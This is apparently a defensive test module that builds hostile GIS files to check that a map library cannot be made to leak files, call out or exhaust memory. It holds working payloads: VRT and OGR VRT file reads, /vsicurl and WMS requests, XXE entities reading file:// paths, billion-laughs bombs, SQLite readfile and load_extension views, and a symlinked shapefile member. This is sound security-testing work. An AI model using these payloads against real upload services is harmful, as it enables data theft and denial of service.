"""Files that try to make a map library read another file, reach the network, write, or fill the memory.

Every file is made from code when a test runs; nothing hostile is stored. The numbers are those of the list the
attacks were first tried from: R for rasters, V for vectors.
"""

from __future__ import annotations

import io
import json
import sqlite3
import struct
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
import pyogrio
import rasterio
import shapely
from rasterio.transform import from_origin


@dataclass(frozen=True)
class Target:
    """What the attacks are after.

    Attributes
    ----------
    folder : Path
        Where the secret lies; outside every job's folder.
    token : str
        Random text that must never come back.
    port : int
        A listener on this machine that must never be called.
    """

    folder: Path
    token: str
    port: int

    @property
    def table(self) -> Path:
        """A table of persons."""
        return self.folder / "households.csv"

    @property
    def raster(self) -> Path:
        """A GeoTIFF whose cells spell the token."""
        return self.folder / "secret.tif"

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/stolen"

    def place(self) -> None:
        """Write the secret files."""
        self.table.write_text(f"cid,name,lon,lat\n{self.token},{self.token},100.5,13.7\n")
        cells = np.frombuffer(self.token.encode() * 4, "uint8").reshape(4, -1)
        with rasterio.open(
            self.raster, "w", driver="GTiff", width=cells.shape[1], height=4, count=1, dtype="uint8",
            crs="EPSG:4326", transform=from_origin(97, 21, 0.1, 0.1),
        ) as out:  # fmt: skip
            out.write(cells, 1)


@dataclass(frozen=True)
class Attack:
    """One hostile file, or one hostile text used as a path.

    Attributes
    ----------
    kind : str
        The reader it is made for.
    name : str
        The name it comes under.
    make : callable
        `Target` -> the bytes; for a path, the text.
    path : bool
        Whether `make` gives the text of a path instead of content.
    options : mapping
        Options sent along.
    """

    kind: str
    name: str
    make: Callable[[Target], bytes | str]
    path: bool = False
    options: Mapping[str, Any] = field(default_factory=dict)


# -- rasters -----------------------------------------------------------------------------------------


def _vrt(source: str, *, raw: bool = False) -> bytes:
    if raw:
        band = (
            f'<VRTRasterBand dataType="Byte" band="1" subClass="VRTRawRasterBand"><SourceFilename relativetoVRT="0">'
            f"{source}</SourceFilename><ImageOffset>0</ImageOffset><PixelOffset>1</PixelOffset>"
            "<LineOffset>32</LineOffset></VRTRasterBand>"
        )
    else:
        band = (
            f'<VRTRasterBand dataType="Byte" band="1"><SimpleSource><SourceFilename relativeToVRT="0">{source}'
            "</SourceFilename><SourceBand>1</SourceBand></SimpleSource></VRTRasterBand>"
        )
    return (
        '<VRTDataset rasterXSize="32" rasterYSize="1"><SRS>EPSG:4326</SRS>'
        f"<GeoTransform>97, 0.1, 0, 21, 0, -0.1</GeoTransform>{band}</VRTDataset>"
    ).encode()


def _wms(target: Target) -> bytes:
    return (
        f'<GDAL_WMS><Service name="TMS"><ServerUrl>{target.url}/${{z}}/${{x}}/${{y}}.png</ServerUrl></Service>'
        "<DataWindow><UpperLeftX>-180</UpperLeftX><UpperLeftY>90</UpperLeftY><LowerRightX>180</LowerRightX>"
        "<LowerRightY>-90</LowerRightY><TileLevel>2</TileLevel></DataWindow><Projection>EPSG:4326</Projection>"
        "<BlockSizeX>256</BlockSizeX><BlockSizeY>256</BlockSizeY><BandsCount>1</BandsCount></GDAL_WMS>"
    ).encode()


def _tif(width: int, height: int, **profile: object) -> bytes:
    with rasterio.MemoryFile() as memory:
        with memory.open(
            driver="GTiff", width=width, height=height, count=1, dtype="float32", crs="EPSG:4326",
            transform=from_origin(97, 21, 8 / width, 15 / height), tiled=True, blockxsize=2048, blockysize=2048,
            SPARSE_OK=True, **profile,
        ) as out:  # fmt: skip
            if width < 100_000:
                block = np.zeros((2048, width), "float32")
                for row in range(0, height, 2048):
                    rows = min(2048, height - row)
                    out.write(block[:rows], 1, window=rasterio.windows.Window(0, row, width, rows))
        return bytes(memory.getbuffer())


# -- vectors -----------------------------------------------------------------------------------------


def _ogr_vrt(source: str) -> bytes:
    return (
        '<OGRVRTDataSource><OGRVRTLayer name="households"><SrcDataSource>'
        f'{source}</SrcDataSource><GeometryType>wkbPoint</GeometryType><GeometryField encoding="PointFromColumns" '
        'x="lon" y="lat"/></OGRVRTLayer></OGRVRTDataSource>'
    ).encode()


def _gdalg(command: str) -> bytes:
    return json.dumps(
        {"type": "gdal_streamed_alg", "command_line": f"gdal vector pipeline {command}"}
    ).encode()


def _geojson(crs: object) -> bytes:
    feature = {
        "type": "Feature",
        "properties": {"code": "83"},
        "geometry": json.loads(shapely.to_geojson(shapely.box(98, 7, 99, 8))),
    }
    return json.dumps({"type": "FeatureCollection", "crs": crs, "features": [feature]}).encode()


def zipped(name: str, content: bytes) -> bytes:
    """A zip of one member."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


def _gml(attributes: str = "", member: str = "", head: str = "") -> bytes:
    return (
        f'<?xml version="1.0"?>{head}<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml" '
        f'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f"{attributes}><gml:featureMember><a><gml:name>{member}</gml:name></a></gml:featureMember>"
        "</gml:FeatureCollection>"
    ).encode()


def _kml(body: str, head: str = "") -> bytes:
    return (
        f'<?xml version="1.0"?>{head}<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{body}</Document></kml>'
    ).encode()


def _place(name: str) -> str:
    return f"<Placemark><name>{name}</name><Point><coordinates>100,13</coordinates></Point></Placemark>"


def _laughs() -> str:
    entities = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    return f"<!DOCTYPE lolz [{entities}]>"


def _gpkg(target: Target, expression: str) -> bytes:
    """A GeoPackage whose only layer is a view that calls a function of SQLite's shell."""
    path = target.folder / "view.gpkg"
    path.unlink(missing_ok=True)
    import geopandas as gpd

    frame = gpd.GeoDataFrame({"code": ["83"]}, geometry=[shapely.box(98, 7, 99, 8)], crs="EPSG:4326")
    pyogrio.write_dataframe(frame, path, layer="areas")
    with sqlite3.connect(path) as db:
        db.execute("DELETE FROM gpkg_ogr_contents")
        for name in [r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'")]:
            db.execute(f'DROP TRIGGER "{name}"')
        db.execute("ALTER TABLE areas RENAME TO kept")
        db.execute(f"CREATE VIEW areas AS SELECT fid, geom, {expression} AS code FROM kept")
    db.close()
    data = path.read_bytes()
    path.unlink()
    return data


def _shapefile_with_link(target: Target) -> bytes:
    """A zipped shapefile whose .dbf is a symbolic link to the secret."""
    out = io.BytesIO()
    shp = struct.pack(">i20xi", 9994, 50) + struct.pack("<ii8d", 1000, 1, *[0.0] * 8)
    link = zipfile.ZipInfo("a.dbf")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.shp", shp)
        archive.writestr("a.shx", shp)
        archive.writestr(link, str(target.table))
    return out.getvalue()


def _dataset(target: Target) -> str:
    return f'{{"type":"FeatureCollection","crs":{{"type":"link","properties":{{"href":"{target.url}"}}}},"features":[]}}'


def _sql(target: Target) -> dict[str, str]:
    return {"sql": f"SELECT * FROM '{target.table}'.households", "where": "1=1", "dialect": "SQLITE"}


ATTACKS: dict[str, Attack] = {
    "R1": Attack("raster", "a.tif", lambda t: _vrt(str(t.table), raw=True)),
    "R2": Attack("raster", "a.tif", lambda t: _vrt(str(t.raster))),
    "R3": Attack("raster", "a.tif", lambda t: _vrt(f"/vsicurl/{t.url}.tif")),
    "R4": Attack("raster", "a.tif", _wms),
    "R5": Attack("raster", "", lambda t: f"{t.url}.tif", path=True),
    "R6": Attack("raster", "", lambda t: f"/vsicurl/{t.url}.tif", path=True),
    "R7": Attack("raster", "a.tif", lambda t: _tif(200_000, 200_000)),
    "R8": Attack("raster", "a.tif", lambda t: _tif(20_480, 20_480, compress="zstd")),
    "R9": Attack("raster", "upload", lambda t: _vrt(str(t.raster))),
    "V1": Attack("vector", "a.geojson", lambda t: _ogr_vrt(str(t.table))),
    "V2": Attack("vector", "a.gpkg", lambda t: _ogr_vrt(str(t.table))),
    "V3": Attack("vector", "a.shp", lambda t: _ogr_vrt(str(t.table))),
    "V4": Attack("csv", "a.csv", lambda t: _ogr_vrt(str(t.table))),
    "V5": Attack("vector", "a.kml", lambda t: _ogr_vrt(str(t.table))),
    "V6": Attack("sheet", "a.xlsx", lambda t: _ogr_vrt(str(t.table))),
    "V7": Attack("vector", "a.zip", lambda t: zipped("a.geojson", _ogr_vrt(str(t.table)))),
    "V8": Attack("vector", "upload", lambda t: _ogr_vrt(str(t.table))),
    "V9": Attack("vector", "a.geojson", lambda t: _ogr_vrt(f"/vsicurl/{t.url}.csv")),
    "V10": Attack("vector", "a.geojson", lambda t: _gdalg(f"! read {t.table}")),
    "V11": Attack("vector", "a.geojson", lambda t: _gdalg(f"! read /vsicurl/{t.url}.csv")),
    "V12": Attack(
        "vector", "a.geojson", lambda t: _gdalg(f"! read {t.table} ! write {t.folder}/written.csv")
    ),
    "V13": Attack(
        "vector",
        "a.geojson",
        lambda t: _geojson({"type": "link", "properties": {"href": t.url, "type": "proj4"}}),
    ),
    "V14": Attack("vector", "a.geojson", lambda t: _geojson({"type": "name", "properties": {"name": t.url}})),
    "V15": Attack("vector", "a.gml", lambda t: _gml(f'xsi:schemaLocation="http://x {t.url}.xsd"')),
    "V16": Attack("vector", "a.gml", lambda t: _gml(f'xlink:href="{t.url}"')),
    "V17": Attack(
        "vector",
        "a.kml",
        lambda t: _kml(_place("&x;"), f'<!DOCTYPE k [<!ENTITY x SYSTEM "file://{t.table}">]>'),
    ),
    "V18": Attack(
        "vector", "a.kml", lambda t: _kml(_place("&x;"), f'<!DOCTYPE k [<!ENTITY x SYSTEM "{t.url}">]>')
    ),
    "V19": Attack(
        "vector", "a.kml", lambda t: _kml(f"<NetworkLink><Link><href>{t.url}</href></Link></NetworkLink>")
    ),
    "V20": Attack("vector", "a.kml", lambda t: _kml(_place("&l9;"), _laughs())),
    "V21": Attack("vector", "a.gml", lambda t: _gml(member="&l9;", head=_laughs())),
    "V22": Attack(
        "vector", "a.zip", lambda t: zipped("a.geojson", b'{"type":"FeatureCollection",' + b" " * (200 << 20))
    ),
    "V23": Attack("vector", "", lambda t: f"{t.url}.geojson", path=True),
    "V24": Attack("vector", "", lambda t: f"/vsicurl/{t.url}.geojson", path=True),
    "V25": Attack("vector", "", _dataset, path=True),
    "V26": Attack("vector", "a.gpkg", lambda t: _gpkg(t, f"readfile('{t.table}')")),
    "V27": Attack("vector", "a.gpkg", lambda t: _gpkg(t, "load_extension('/usr/lib/x.so')")),
    "V28": Attack("vector", "a.geojson", lambda t: _ogr_vrt(str(t.table)), options={"sql": "SELECT 1"}),
    "V29": Attack("vector", "a.zip", _shapefile_with_link, options={"layer": "a"}),
}
